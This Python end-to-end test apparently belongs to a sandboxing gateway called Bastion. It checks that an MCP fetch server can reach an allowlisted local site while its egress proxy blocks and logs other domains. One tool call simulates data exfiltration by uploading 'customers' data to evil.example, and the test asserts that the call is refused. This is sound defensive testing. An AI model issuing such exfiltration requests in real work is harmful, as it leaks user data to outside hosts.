"""The scenario that motivates the product, with the real `mcp-server-fetch` sandboxed behind Bastion.

Fetching an allowlisted domain (served by a local HTTP server; the name is mapped by the
egress proxy's test resolver) succeeds. A request to any other domain is blocked by the
egress proxy before any name is resolved, and recorded, so nothing leaves the machine.
"""

from __future__ import annotations

import anyio
import pytest

from bastion.config import load_config
from bastion.gateway.gateway import Gateway
from bastion.runtime.egress.proxy import ResolverForTests
from bastion.runtime.events import EgressAllowed, EgressBlocked, RecordingSink
from bastion.runtime.sandbox import bubblewrap_problem
from tests.e2e.conftest import VENV_BIN, write_config
from tests.e2e.inprocess import http_client, serving
from tests.e2e.sandbox_fixtures import local_site

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.e2e,
    pytest.mark.skipif(bubblewrap_problem() is not None, reason=f"no sandbox here: {bubblewrap_problem()}"),
]


async def test_fetch_reaches_the_allowlisted_site_and_nothing_else(tmp_path):
    fetch = {
        "command": str(VENV_BIN / "mcp-server-fetch"),
        "args": ["--ignore-robots-txt"],
        "sandbox": {"network": "allowlist", "allow_domains": ["docs.example.test"]},
    }
    # The policy judges against the same allowlist and would hold the call before the server ran it
    # (tests/e2e/test_policy_sandbox_domains.py); audit-only lets it through to test the proxy itself.
    config = load_config(write_config(tmp_path, {"fetch": fetch}, policy={"profile": "audit-only"}))
    sink = RecordingSink()
    with local_site() as (port, seen), anyio.fail_after(90):
        resolver = ResolverForTests({"docs.example.test": ("127.0.0.1", port)})
        gateway = Gateway(config, runtime_sink=sink, test_resolver=resolver)
        async with serving(gateway):
            assert gateway.tokens is not None
            _, token = gateway.tokens.create("agent")
            async with http_client(gateway, "fetch", token) as client:
                ok = await client.call_tool("fetch", {"url": "http://docs.example.test/guide", "raw": True})
                assert not ok.is_error, ok
                assert "hello from the allowlisted site" in ok.content[0].text  # type: ignore[union-attr]
                stolen = await client.call_tool("fetch", {"url": "https://evil.example/upload?data=customers"})
                assert stolen.is_error, stolen
                [blocked] = await sink.wait_for(EgressBlocked)
    assert seen == ["docs.example.test /guide"]
    assert (blocked.server, blocked.host, blocked.port) == ("fetch", "evil.example", 443)
    assert blocked.method == "CONNECT"
    assert blocked.reason == "evil.example is not on the allowlist", "refused before any DNS lookup"
    [allowed] = sink.of_type(EgressAllowed)
    assert (allowed.host, allowed.address) == ("docs.example.test", "127.0.0.1")
